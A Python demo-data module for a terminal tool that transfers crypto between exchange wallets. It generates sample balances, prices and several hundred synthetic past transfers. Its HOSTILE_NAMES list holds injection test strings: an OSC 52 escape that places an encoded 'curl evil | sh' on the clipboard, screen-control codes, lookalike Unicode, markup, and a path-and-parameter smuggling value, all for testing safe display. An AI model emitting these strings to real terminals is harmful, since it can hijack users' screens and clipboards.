"""The person of the demo: believable wallets, and six months of earlier transfers of all types.

What is free in a wallet is not always what can be moved. Each earlier transfer depends on its day alone, so every demo
exchange shows the same ones on any day.
"""

import hashlib
from collections.abc import Iterator
from decimal import Decimal
from typing import Final

from tui.demo.ledger import Executed, Funds, Ledger
from tui.domain.balances import Account, Pair
from tui.domain.transfer import TransferRequest
from tui.domain.wallets import TransferType, Wallet


def demo_ledger() -> Ledger:
    """Return a fresh ledger: all eight wallets open, two isolated pairs, loans, open orders and positions."""
    pairs = [Pair(base + quote, base, quote) for quote in _QUOTES for base in _BASES if base != quote]
    return Ledger(_HOLDINGS, pairs)


def beginner_ledger() -> Ledger:
    """Return a fresh ledger of a person who has opened Spot, Funding and the futures wallets, and whose one isolated
    pair was disabled.
    """
    opened = {Wallet.SPOT, Wallet.FUNDING, Wallet.UM, Wallet.CM}
    ledger = Ledger({account: held for account, held in _HOLDINGS.items() if account.wallet in opened}, [])
    ledger.pairs = demo_ledger().pairs
    ledger.closed = frozenset(set(Wallet) - opened - {Wallet.ISOLATED})
    ledger.disabled.append(ledger.pairs["SOLUSDT"])
    return ledger


def add_hostile_names(ledger: Ledger) -> None:
    """Add assets to Spot, and open pairs, with names that only an attack would have."""
    for name in HOSTILE_NAMES:
        ledger.hold(Account(Wallet.SPOT), name, _of("1"))
        pair = Pair(f"{name}USDT", name, "USDT")
        ledger.pairs[pair.symbol] = pair
        ledger.hold(Account(Wallet.ISOLATED, pair.symbol), name, _of("1"))


def _of(free: str, **others: str) -> Funds:
    return Funds(Decimal(free), **{name: Decimal(amount) for name, amount in others.items()})


_HOLDINGS: Final = {
    Account(Wallet.SPOT): {
        "USDT": _of("1250.00", locked="150.00"),
        "BTC": _of("0.05321004", locked="0.01"),
        "ETH": _of("0.80240000"),
        "BNB": _of("3.51870012"),
        "SOL": _of("12.40"),
        "XRP": _of("512.3", locked="100"),
        "ADA": _of("940.1"),
        "DOGE": _of("2501"),
        "USDC": _of("310.55"),
        "FDUSD": _of("42.00000001", frozen="8.5"),
        "LINK": _of("18.06"),
        "DOT": _of("33.3333", withdrawing="12"),
        "SHIB": _of("1500000.25"),
    },
    Account(Wallet.FUNDING): {
        "USDT": _of("80.00"),
        "BNB": _of("0.25"),
        "USDC": _of("15.5"),
    },
    Account(Wallet.CROSS): {
        "USDT": _of("10.00"),
        "BTC": _of("0.02", held_back="0.0125"),
        "USDC": _of("60.00", locked="20.00", held_back="45.00", borrowed="50.00", interest="0.00312847"),
    },
    Account(Wallet.ISOLATED, "BTCUSDT"): {
        "BTC": _of("0.01500000", held_back="0.004"),
        "USDT": _of("200.00", held_back="80.02469135", borrowed="75.00", interest="0.02469135"),
    },
    Account(Wallet.ISOLATED, "ETHUSDT"): {
        "ETH": _of("0.50000000", locked="0.1"),
        "USDT": _of("75.00"),
    },
    Account(Wallet.UM): {
        "USDT": _of("312.30", locked="45.50", held_back="12.30"),
        "USDC": _of("20.00"),
        "BNB": _of("0.10"),
    },
    Account(Wallet.CM): {
        "BTC": _of("0.01753100", locked="0.00300000", held_back="0.00053100"),
        "ETH": _of("0.40000000"),
    },
    Account(Wallet.OPTIONS): {
        "USDT": _of("60.00", locked="15.00"),
    },
    Account(Wallet.PORTFOLIO): {
        "USDT": _of("100.00", held_back="40.00"),
        "BTC": _of("0.00800000"),
    },
}

_QUOTES = ("USDT", "USDC", "FDUSD", "BTC", "ETH", "BNB")
_BASES = [
    "BTC",
    "ETH",
    "BNB",
    "SOL",
    "XRP",
    "ADA",
    "DOGE",
    "LINK",
    "DOT",
    "SHIB",
    "TRX",
    "LTC",
    "BCH",
    "AVAX",
    "NEAR",
    "ATOM",
    "UNI",
    "APT",
    "ARB",
    "OP",
    "FIL",
    "ETC",
    "ICP",
    "SUI",
    "TON",
    "INJ",
    "AAVE",
]

HOSTILE_NAMES: Final = (
    "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07",  # to a terminal: put a command into the clipboard
    "\x1b[2J\x1b[HBTC",  # clear the screen
    "\x9b?1049l",  # a command of this kind in one character
    "BTC\r\nUSDT",
    "US\u202eTD",  # written from right to left
    "BT\u200bC",  # with a zero-width space
    "ＢＴＣ",  # full-width letters
    "[red]BTC[/red]",  # to Textual: a colour
    "../BTC&asset=USDT",
    "A" * 5000,
    "",
)
"""Names that command a terminal, look like another name, or mean something to the program that shows them."""

PRICES_IN_BTC: Final = {
    asset: Decimal(price)
    for asset, price in {
        "BTC": "1",
        "ETH": "0.038",
        "BNB": "0.0095",
        "SOL": "0.0017",
        "XRP": "0.000028",
        "ADA": "0.0000075",
        "DOGE": "0.0000022",
        "USDT": "0.0000095",
        "USDC": "0.0000095",
        "FDUSD": "0.0000095",
        "LINK": "0.00018",
        "DOT": "0.000038",
        "SHIB": "0.0000000001",
        "EUR": "0.000011",
        "BRL": "0.0000017",
        "JPY": "0.000000061",
        "PLN": "0.0000026",
        "TRY": "0.00000023",
        "ZAR": "0.00000054",
    }.items()
}
"""The exchange's value of an asset; other assets count as nothing."""

BTC_QUOTES: Final = ("USDT", "USDC", "FDUSD", "EUR", "BRL", "JPY", "PLN", "TRY", "ZAR")
"""What a BTC has a price in. Other assets have one in BTC."""

EARLIER_COUNT: Final = 520
"""How many transfers the demo has from before: nearly three a day."""

_DAYS: Final = 178
_DAY_MS: Final = 24 * 60 * 60 * 1000
_QUIET_MS: Final = 3 * 60 * 60 * 1000
"""Nothing happened for this long before the demo began: no earlier record is near a transfer of today."""

_EPOCH_MS: Final = 1_577_836_800_000
"""2020-01-01. Tenths of milliseconds since then make numbers like the exchange's own."""

_FAILED_ONE_IN: Final = 40

_MOVES: Final = tuple(TransferType)
_PAIRS: Final = (("BTC", "USDT"), ("ETH", "USDT"), ("BTC", "USDT"), ("SOL", "USDT"))
"""The account of the last one is closed by now."""

_STEP: Final = {
    "USDT": Decimal("0.25"),
    "USDC": Decimal("0.1"),
    "BTC": Decimal("0.00001"),
    "ETH": Decimal("0.0001"),
    "BNB": Decimal("0.001"),
    "SOL": Decimal("0.01"),
}
"""Amounts are multiples of these."""

_ASSETS: Final = {
    Wallet.SPOT: ("USDT", "BTC", "ETH", "BNB", "USDC"),
    Wallet.FUNDING: ("USDT", "USDC", "BNB"),
    Wallet.CROSS: ("USDT", "BTC", "USDC"),
    Wallet.UM: ("USDT", "USDC", "BNB"),
    Wallet.CM: ("BTC", "ETH"),
    Wallet.OPTIONS: ("USDT",),
    Wallet.PORTFOLIO: ("USDT", "BTC"),
}
"""The usual assets of a wallet."""


def tran_id_at(time_ms: int) -> int:
    """Return the first of ten tranIds of a moment; those of later moments are larger."""
    return (time_ms - _EPOCH_MS) * 10


def earlier_transfers(count: int, begins_ms: int) -> list[Executed]:
    """Return `count` transfers before a moment, oldest first, none of them older than six months."""
    per_day = -(-count // _DAYS)
    last_day, apart_ms = begins_ms // _DAY_MS, _DAY_MS // max(1, per_day)
    made = [
        _executed(day * per_day + number, day * _DAY_MS + number * apart_ms, apart_ms)
        for day in range(last_day - _DAYS, last_day + 1)
        for number in range(per_day)
    ]
    earliest_ms, latest_ms = begins_ms - _DAYS * _DAY_MS, begins_ms - _QUIET_MS
    return [executed for executed in made if earliest_ms <= executed.time_ms < latest_ms][-count:] if count else []


def _executed(number: int, from_ms: int, span_ms: int) -> Executed:
    """Return one transfer within a span of time."""
    chance = _chances(number)
    # All types in turn, from another one each time.
    move = _MOVES[(number + number // len(_MOVES) * 7) % len(_MOVES)]
    time_ms = from_ms + next(chance) * span_ms // 256 + number % 997
    failed = next(chance) % _FAILED_ONE_IN == 0
    return Executed(tran_id_at(time_ms) + number % 10, _request(move, chance), time_ms, failed)


def _request(move: TransferType, chance: Iterator[int]) -> TransferRequest:
    first = next(chance) % len(_PAIRS)
    source, destination = _PAIRS[first], _PAIRS[first - 1 if move.needs_from_pair else first]
    assets = [
        *([source] if move.needs_from_pair else []),
        *([destination] if move.needs_to_pair else []),
        *(_ASSETS[wallet] for wallet in (move.source, move.destination) if wallet in _ASSETS),
    ]
    common = [asset for asset in assets[0] if all(asset in others for others in assets)] or ["USDT"]
    asset = common[next(chance) % len(common)]
    return TransferRequest(
        move,
        asset,
        _STEP[asset] * (1 + next(chance) * 3 + next(chance)),
        "".join(source) if move.needs_from_pair else None,
        "".join(destination) if move.needs_to_pair else None,
    )


def _chances(number: int) -> Iterator[int]:
    """Return numbers below 256 that depend on `number` alone."""
    return iter(hashlib.sha256(str(number).encode()).digest())
